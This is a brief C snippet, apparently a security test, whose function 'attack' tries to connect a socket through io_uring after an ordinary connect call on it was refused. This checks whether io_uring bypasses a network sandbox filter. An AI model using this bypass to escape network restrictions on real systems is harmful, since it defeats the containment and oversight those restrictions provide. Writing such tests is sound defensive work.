/* Connects a host socket whose connect was refused by io_uring. */
#include "ring.h"

static void attack(void) {
    int fd = refused();
    submit(&(struct io_uring_sqe){
        .opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&to, .off = length(&to),
    });
    if (connected_to(fd, &to)) tell(fd);
}
